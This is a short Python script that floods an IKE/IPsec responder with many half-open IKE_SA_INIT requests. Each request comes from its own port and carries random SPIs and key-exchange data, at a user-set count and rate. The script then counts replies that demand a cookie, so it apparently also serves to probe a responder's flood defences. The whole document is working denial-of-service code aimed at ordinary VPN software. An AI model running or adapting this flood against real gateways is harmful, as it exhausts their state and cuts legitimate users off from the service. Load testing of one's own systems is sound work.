"""Floods an IKE responder with requests to begin, each from a port of its own, none of which is ever followed up.

    flood.py FROM TO PORT COUNT [RATE]     sends COUNT datagrams at RATE (200) a second, prints how many were answered by
                                           a demand for a cookie
"""

import os
import socket
import struct
import sys
import time

AES_GCM_16, PRF_SHA2_384, X25519 = 20, 6, 31
SA, KE, NONCE = 33, 34, 40
COOKIE = 16390
IKE_SA_INIT, INITIATOR = 34, 0x08


def payload(following, body):
    return struct.pack(">BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack(">BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request():
    transforms = (
        transform(False, 1, AES_GCM_16, struct.pack(">HH", 0x800E, 256))
        + transform(False, 2, PRF_SHA2_384)
        + transform(True, 4, X25519)
    )
    proposal = struct.pack(">BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = (
        payload(KE, proposal)
        + payload(NONCE, struct.pack(">HH", X25519, 0) + os.urandom(32))
        + payload(0, os.urandom(32))
    )
    header = os.urandom(8) + bytes(8) + struct.pack(">BBBBII", SA, 0x20, IKE_SA_INIT, INITIATOR, 0, 28 + len(body))
    return header + body


def demands_cookie(answer):
    # An answer to a first request with no SPI of the responder and one notification.
    return answer[8:16] == bytes(8) and len(answer) > 36 and struct.unpack_from(">H", answer, 34)[0] == COOKIE


def main():
    source, target, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 200
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    cookies, sockets = 0, []
    for _ in range(count):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.bind((source, 0))
        s.setblocking(False)
        s.sendto(request(), (target, port))
        sockets.append(s)
        time.sleep(1 / rate)
    time.sleep(0.3)
    for s in sockets:
        try:
            cookies += demands_cookie(s.recv(2048))
        except BlockingIOError:
            pass
    print(cookies)


main()
